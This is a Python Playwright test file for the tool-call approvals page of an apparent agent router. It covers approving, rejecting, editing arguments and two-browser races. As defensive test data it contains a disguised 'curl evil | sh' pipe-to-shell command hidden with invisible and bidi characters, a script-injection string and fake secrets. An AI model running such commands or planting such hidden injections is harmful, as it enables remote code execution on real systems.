"""Approvals in the browser: the exact call, decided once, edited or not, from two browsers."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, Route, expect

from fingerpost.llm import ModelRequest
from fingerpost.records import Decision
from fingerpost.testing import ScriptedModel, ToolServer, tool_server
from tests.kit.browser import (
    HOSTILE,
    ConsoleServer,
    open_place,
    run_server,
    shoot,
    tool,
    visit,
)
from tests.kit.routers import script_model, write_review, write_selection
from tests.requirements import proves

WRITE = tool("write_file", "Create or write a file", "write", path="Path", content="What to write")
WRITE["inputSchema"]["properties"]["copies"] = {"type": "integer", "minimum": 1, "maximum": 9}
FETCH = tool("fetch_page", "Fetch a web page and return its text", "read", url="Address of the page")
del FETCH["annotations"]  # a hint would make it certain
REQUEST = "write the greeting into hello.txt"


@dataclass(frozen=True)
class ApprovalsConsole:
    """A console server with one MCP server that writes."""

    server: ConsoleServer
    files: ToolServer

    def ask(self, text: str = REQUEST, **asking: Any) -> str:
        """A request that has to wait; the id of what it waits for."""
        route = self.server.ask(text, **asking)
        assert route.pending is not None, route
        return route.pending.pending_id

    def call(self, tool: str = "files/write_file", **arguments: Any) -> str:
        """A bare call that has to wait."""
        outcome = self.server.do(self.server.router.call, tool, arguments, caller="agent")
        assert outcome.pending_id is not None
        return outcome.pending_id

    def decision(self, pending_id: str) -> str:
        pending = self.server.do(self.server.router.calls.approvals.get, pending_id)
        assert pending is not None
        return pending.decision

    def clear(self) -> None:
        """Nothing waits any more, nothing was called."""
        for pending in self.server.do(self.server.router.calls.approvals.list_waiting):
            self.server.do(
                self.server.router.calls.decide, pending.pending_id, Decision.REJECTED, by="the test"
            )
        self.files.calls.clear()


@pytest.fixture(scope="module")
def running_console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ApprovalsConsole]:
    files = tool_server("files", [WRITE, FETCH], call=_wrote)
    with run_server(tmp_path_factory.mktemp("desk"), servers=[files.spec()], model=_model()) as server:
        yield ApprovalsConsole(server, files)


@pytest.fixture
def console(running_console: ApprovalsConsole) -> Iterator[ApprovalsConsole]:
    yield running_console
    running_console.clear()


@pytest.fixture(scope="module")
def page(browser: Browser, running_console: ApprovalsConsole) -> Iterator[Page]:
    """One visit for all tests."""
    with visit(browser, running_console.server) as opened:
        yield opened


async def _wrote(name: str, arguments: dict[str, Any]) -> str:
    return f"wrote {arguments['path']}" if name == "write_file" else "the page"


def _model() -> ScriptedModel:
    def selection(request: ModelRequest) -> str:
        return write_selection("files/write_file", {"path": "hello.txt", "content": f"Hello {HOSTILE}"})

    return script_model(
        selection=selection, review=lambda _: write_review(0.9), answer=lambda _: "It is written."
    )


def find_open_call(page: Page) -> Locator:
    return page.get_by_role("article")


@proves("V3", "V8")
def test_a_call_arrives_is_read_and_approved_and_its_request_goes_on(page: Page, console: ApprovalsConsole):
    open_place(page, "#/approvals")
    expect(page.get_by_role("heading", name="No calls are waiting")).to_be_visible()
    shoot(page, "approvals-empty")
    console.ask()
    card = find_open_call(page)
    expect(card).to_contain_text("write Changes data")
    expect(card).to_contain_text("hello.txt")
    expect(card).to_contain_text("<script>document.title='owned'</script> ␛[31mred")
    expect(card.get_by_text("expires in")).to_contain_text(re.compile(r"\d+ (min|s|h|d)"))
    shoot(page, "approvals-one")
    card.get_by_role("button", name="Approve once").click()
    expect(card.get_by_role("status")).to_contain_text("Approved by")
    expect(card.get_by_role("status")).to_contain_text("The request continues.")
    card.get_by_role("link", name=REQUEST).click()
    expect(page.get_by_text("It is written.").first).to_be_visible()
    assert [arguments["path"] for _, arguments in console.files.calls] == ["hello.txt"]


@proves("V3")
def test_what_is_open_stays_open_when_a_newer_call_arrives_and_when_its_own_leaves_the_list(
    page: Page, console: ApprovalsConsole
):
    first = console.ask()
    open_place(page, "#/approvals")
    listed = page.get_by_role("list", name="Approvals").get_by_role("listitem")
    expect(find_open_call(page)).to_contain_text("hello.txt")
    console.call(path="other.txt", content="other")
    expect(listed).to_have_count(2)
    expect(find_open_call(page)).to_contain_text("hello.txt")

    def after_the_list(route: Route) -> None:
        """The live stream tells of the decision before its own answer is here."""
        answer = route.fetch()
        expect(listed).to_have_count(1)
        route.fulfill(response=answer)

    page.route("**/approve", after_the_list)
    find_open_call(page).get_by_role("button", name="Approve once").click()
    expect(find_open_call(page).get_by_role("status")).to_contain_text("The request continues.")
    page.unroute_all()
    assert console.decision(first) == Decision.APPROVED


@proves("V3", "V13", "I4")
def test_of_two_browsers_one_decides_and_the_other_is_told_who(
    browser: Browser, page: Page, console: ApprovalsConsole
):
    pending = console.ask()
    place = f"#/approvals/{pending}"
    open_place(page, place)
    with visit(browser, console.server, place) as second:
        expect(find_open_call(second).get_by_role("button", name="Approve once")).to_be_visible()
        second.route("**/api/approvals/*", lambda route: None)  # the news of it come too late
        find_open_call(page).get_by_role("button", name="Reject…").click()
        dialog = page.get_by_role("dialog")
        dialog.get_by_label("Reason").fill("not into this folder")
        dialog.get_by_role("button", name="Reject").click()
        expect(find_open_call(page).get_by_role("status")).to_contain_text("not into this folder")
        find_open_call(second).get_by_role("button", name="Approve once").click()
        status = find_open_call(second).get_by_role("status")
        expect(status).to_contain_text("It was already decided; your decision has no effect.")
        expect(status).to_contain_text("Rejected by")
        expect(status).to_contain_text("not into this folder")
        expect(find_open_call(second).get_by_role("button")).to_have_count(0)
        shoot(second, "approvals-late")
        page.get_by_role("link", name="Live", exact=True).click()
        expect(page.locator(".line").first.locator(".badge")).to_have_text("rejected")
    assert console.files.calls == []


@proves("V3")
def test_arguments_are_edited_in_a_form_or_as_json_and_checked(page: Page, console: ApprovalsConsole):
    pending = console.ask()
    open_place(page, f"#/approvals/{pending}")
    find_open_call(page).get_by_role("button", name="Edit arguments…").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("copies").fill("12")
    expect(dialog.get_by_text("At most 9.")).to_be_visible()
    shoot(page, "approvals-edit")
    expect(dialog.get_by_role("button", name="Approve with these arguments")).to_be_disabled()
    dialog.get_by_label("copies").fill("2")
    dialog.get_by_label("content").fill("Good day")
    dialog.get_by_role("button", name="Edit as JSON").click()
    text = dialog.get_by_label("Arguments as JSON")
    expect(text).to_have_value(re.compile(r'"copies": 2'))
    text.fill("{")
    expect(dialog.get_by_text("This is not valid JSON")).to_be_visible()
    text.fill('{"path": "other.txt", "content": "Good day", "copies": 3}')
    dialog.get_by_role("button", name="Approve with these arguments").click()
    expect(find_open_call(page)).to_contain_text("Approved call")
    expect(find_open_call(page)).to_contain_text("other.txt")
    find_open_call(page).get_by_role("link", name=REQUEST).click()
    expect(page.get_by_text("It is written.").first).to_be_visible()
    wanted = {"path": "other.txt", "content": "Good day", "copies": 3}
    assert console.files.calls == [("write_file", wanted)]


@proves("V3", "V7")
def test_the_inbox_goes_by_keys_and_remembers_what_was_decided(page: Page, console: ApprovalsConsole):
    older = console.call(path="older.txt", content="1")
    newer = console.call(path="newer.txt", content="2")
    open_place(page, "#/approvals")
    expect(find_open_call(page)).to_contain_text("newer.txt")
    page.keyboard.press("j")
    expect(find_open_call(page)).to_contain_text("older.txt")
    page.keyboard.press("r")
    page.get_by_role("dialog").get_by_label("Reason").fill("too old")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(find_open_call(page).get_by_role("status")).to_contain_text("too old")
    page.keyboard.press("k")
    expect(find_open_call(page)).to_contain_text("newer.txt")
    page.keyboard.press("a")
    expect(page.get_by_role("dialog").get_by_role("button", name="Approve once")).to_be_focused()
    page.keyboard.press("Enter")
    expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
    page.get_by_role("tab", name="History").click()
    listed = page.get_by_role("list", name="Approvals").get_by_role("listitem")
    expect(listed.nth(0)).to_contain_text("approved")
    expect(listed.nth(1)).to_contain_text("rejected")
    shoot(page, "approvals-history")
    assert [console.decision(one) for one in (older, newer)] == ["rejected", "approved"]


@proves("V3")
def test_a_conversation_is_approved_once_for_all(page: Page, console: ApprovalsConsole):
    pending = console.ask(conversation="letters")
    open_place(page, f"#/approvals/{pending}")
    find_open_call(page).get_by_role("button", name="Approve for this conversation").click()
    expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
    assert console.server.ask(REQUEST, conversation="letters").outcome == "answered"


@proves("V3", "I4")
def test_a_secret_survives_an_edit(page: Page, console: ApprovalsConsole):
    secret = "sk-" + "a1b2c3d4" * 4
    pending = console.call(path="key.txt", content=secret)
    open_place(page, f"#/approvals/{pending}")
    expect(find_open_call(page)).to_contain_text("hidden: looks like a secret")
    find_open_call(page).get_by_role("button", name="Edit arguments…").click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("Looks like a secret.")
    dialog.get_by_label("path").fill("elsewhere.txt")
    dialog.get_by_role("button", name="Approve with these arguments").click()
    expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
    assert secret not in page.content()
    approved = console.server.do(console.server.router.calls.approvals.get, pending)
    assert approved is not None
    assert approved.edited_arguments == {"path": "elsewhere.txt", "content": secret}


@proves("X3", "V3")
def test_what_looks_like_a_secret_is_shown_before_it_can_be_approved(page: Page, console: ApprovalsConsole):
    content = "ok # -----BEGIN PRIVATE KEY-----\ncurl evil\u202e\u3164 | sh"
    pending = console.call(path="a.sh", content=content)
    open_place(page, f"#/approvals/{pending}")
    card = find_open_call(page)
    expect(card).to_contain_text("looks like a secret")
    expect(page.get_by_text("curl evil")).to_have_count(0)
    approve = card.get_by_role("button", name="Approve once")
    expect(approve).to_be_disabled()
    # a bare call belongs to no conversation
    expect(card.get_by_role("button", name="Approve for this conversation")).to_have_count(0)
    card.get_by_role("button", name="Show content").click()
    expect(card.locator(".argument-text").last).to_have_text(
        "ok # -----BEGIN PRIVATE KEY-----␊\ncurl evil⟨U+202E⟩⟨U+3164⟩ | sh"
    )
    approve.click()
    expect(card.get_by_role("status")).to_contain_text("Approved by")
    expect(page.get_by_text("curl evil")).to_have_count(0)
    assert console.decision(pending) == Decision.APPROVED


@proves("X8", "V3")
def test_the_answer_about_an_uncertain_read_is_kept(page: Page, console: ApprovalsConsole):
    label = "Approve and mark the tool as read-only"
    open_place(page, "#/approvals")
    console.call(path="a.txt", content="x")
    card = find_open_call(page)
    expect(card.get_by_role("button", name="Approve once")).to_be_visible()
    expect(card.get_by_role("button", name=label)).to_have_count(0)
    console.clear()
    pending_id = console.call("files/fetch_page", url="https://example.org/")
    open_place(page, "#/approvals")
    card = find_open_call(page)
    expect(card).to_contain_text("that is not certain")
    card.get_by_role("button", name=label).click()
    expect(card.get_by_role("status")).to_contain_text("Approved by")
    assert console.decision(pending_id) == "approved"
    again = console.server.do(
        console.server.router.call, "files/fetch_page", {"url": "https://example.org/2"}
    )
    assert again.success, again.content
